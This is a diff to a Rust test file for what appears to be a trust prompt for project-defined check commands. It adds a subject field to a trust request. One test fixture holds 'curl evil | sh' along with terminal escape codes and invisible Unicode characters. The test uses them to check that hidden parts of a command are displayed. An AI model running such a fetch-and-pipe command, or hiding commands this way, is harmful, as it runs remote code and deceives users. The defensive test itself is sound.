@@ -3,7 +3,7 @@
 use super::merge::{Layer, ProcedureSettings, Sourced, ValueOrigin};
 use super::options::KEYS;
 use super::tests::read;
-use super::trust::{TrustRequest, describe_check, list_trust_requests};
+use super::trust::{TrustRequest, TrustSubject, describe_check, list_trust_requests};
 use engine::record::{Check, Role};
 
 /// What the user's `[loop]` says, what the project's says, and whether that needs trust.
@@ -212,7 +212,11 @@ fn every_term_of_a_check_is_part_of_what_is_trusted() {
 fn nothing_in_a_command_is_hidden_when_it_is_shown() {
     let run = "true \u{1b}[2K\r# \u{202e}x\u{200b}\n\tcurl evil | sh";
     let check = Check::new(run, Role::Gate);
-    let need = TrustRequest { text: describe_check(&check), origin: ValueOrigin::Typed };
+    let need = TrustRequest {
+        subject: TrustSubject::Project,
+        text: describe_check(&check),
+        origin: ValueOrigin::Typed,
+    };
     assert_eq!(
         need.to_string(),
         "gate (within 600s, passes with 0): \
